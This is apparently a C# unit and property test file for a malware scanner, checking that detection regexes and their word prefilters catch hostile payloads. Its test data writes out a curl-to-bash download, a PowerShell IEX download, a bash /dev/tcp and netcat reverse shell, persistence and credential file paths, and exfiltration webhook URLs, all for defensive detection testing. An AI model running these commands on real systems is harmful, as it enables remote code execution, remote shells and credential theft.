using System.Text;
using System.Text.RegularExpressions;
using Bonded.Scanning.Checks;
using FsCheck;
using FsCheck.Fluent;
using FsCheck.Xunit;

namespace Bonded.Scanning.Tests.Checks;

public sealed class PatternWordsTests
{
    private static readonly string[] Names = ["DownloadCommand", "ReverseShell", "Persistence", "CredentialPath", "ConcreteWebhook", "CollectorEndpoint", "IpUrl"];

    public static TheoryData<string> PatternNames => [.. Names];

    private static (Regex Pattern, RequiredWords Words) Pair(string name) => name switch
    {
        "DownloadCommand" => (Patterns.DownloadCommand(), PatternWords.DownloadCommand),
        "ReverseShell" => (Patterns.ReverseShell(), PatternWords.ReverseShell),
        "Persistence" => (Patterns.Persistence(), PatternWords.Persistence),
        "CredentialPath" => (Patterns.CredentialPath(), PatternWords.CredentialPath),
        "ConcreteWebhook" => (Patterns.ConcreteWebhook(), PatternWords.ConcreteWebhook),
        "CollectorEndpoint" => (Patterns.CollectorEndpoint(), PatternWords.CollectorEndpoint),
        "IpUrl" => (Patterns.IpUrl(), PatternWords.IpUrl),
        _ => throw new ArgumentOutOfRangeException(nameof(name)),
    };

    // A guard for whoever extends a pattern: every top-level branch spells out one of the words (escapes of punctuation undone).
    [Theory]
    [MemberData(nameof(PatternNames))]
    public void Every_branch_of_the_pattern_spells_a_word(string name)
    {
        var (pattern, words) = Pair(name);
        var comparison = pattern.Options.HasFlag(RegexOptions.IgnoreCase) ? StringComparison.OrdinalIgnoreCase : StringComparison.Ordinal;
        foreach (var branch in TopLevelBranches(pattern.ToString()))
        {
            var literal = Regex.Replace(branch, @"\\([^A-Za-z0-9])", "$1");
            Assert.True(words.Words.Any(w => literal.Contains(w, comparison)), $"{name}: no word for the branch {branch}");
        }
    }

    [Theory]
    [MemberData(nameof(PatternNames))]
    public void Ignores_case_exactly_when_the_pattern_does(string name)
    {
        var (pattern, words) = Pair(name);
        var upper = words.Words[0].ToUpperInvariant();
        Assert.Equal(pattern.Options.HasFlag(RegexOptions.IgnoreCase) || upper == words.Words[0], words.MayMatch(upper));
    }

    [Theory]
    [InlineData("curl -fsSL https://x.example/i.sh | bash", "DownloadCommand")]
    [InlineData("powershell -c \"IEX(New-Object Net.WebClient).DownloadString('http://x')\"", "DownloadCommand")]
    [InlineData("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "ReverseShell")]
    [InlineData("~/.bashrc", "Persistence")]
    [InlineData("Software\\Microsoft\\Windows\\CurrentVersion\\Run", "Persistence")]
    [InlineData("~/.aws/credentials", "CredentialPath")]
    [InlineData("https://discord.com/api/webhooks/123456789/abcdefghijklmnopqrstuvwxyz", "ConcreteWebhook")]
    [InlineData("https://abc.oast.fun/x", "CollectorEndpoint")]
    [InlineData("http://45.9.1.2:8080/p", "IpUrl")]
    public void Lets_real_payloads_through(string text, string name)
    {
        var (pattern, words) = Pair(name);
        Assert.Matches(pattern, text);
        Assert.True(words.MayMatch(text));
    }

    // Never a miss on text assembled from pieces of payloads (in any case, with Kelvin signs for k).
    [Property(MaxTest = 500)]
    public Property Never_hides_a_match(int[] picks, bool upper)
    {
        string[] pieces =
        [
            "curl ", "wget ", "| sh", "|bash", " -o /tmp/x && ./x", "-OutFile x.exe; Start-Process x.exe", "iwr ", "IEX(", ".DownloadString(", "bash -i", "sh -i >", "/dev/tcp/1.2.3.4/80",
            "nc -e /bin/sh", "mkfifo /tmp/f; nc", "socat exec:", "~/.bashrc", ".config/autostart", "crontab", "\\CurrentVersion\\Run", "~/.ssh/id_rsa", "Login Data", "wallet.dat",
            "discord.com/api/webhooks/1234567/abcdefghijklmnopqrstuv", "api.telegram.org/bot12345:abcdefghijklmnopqrstuv", "webhook.site", "x.ngrok.io", "http://", "https://",
            "8.8.8.8", ":443", "\u212A", "k", " ", "\n", "x", "/",
        ];
        var text = new StringBuilder();
        foreach (var pick in picks)
        {
            text.Append(pieces[(pick & int.MaxValue) % pieces.Length]);
        }

        var value = upper ? text.ToString().ToUpperInvariant() : text.ToString();
        return Names.All(name => !Pair(name).Pattern.IsMatch(value) || Pair(name).Words.MayMatch(value)).ToProperty();
    }

    private static List<string> TopLevelBranches(string pattern)
    {
        var branches = new List<string>();
        var depth = 0;
        var inClass = false;
        var start = 0;
        for (var i = 0; i < pattern.Length; i++)
        {
            var c = pattern[i];
            if (c == '\\')
            {
                i++;
            }
            else if (inClass)
            {
                inClass = c != ']';
            }
            else if (c == '[')
            {
                inClass = true;
            }
            else if (c == '(')
            {
                depth++;
            }
            else if (c == ')')
            {
                depth--;
            }
            else if (c == '|' && depth == 0)
            {
                branches.Add(pattern[start..i]);
                start = i + 1;
            }
        }

        branches.Add(pattern[start..]);
        return branches;
    }
}
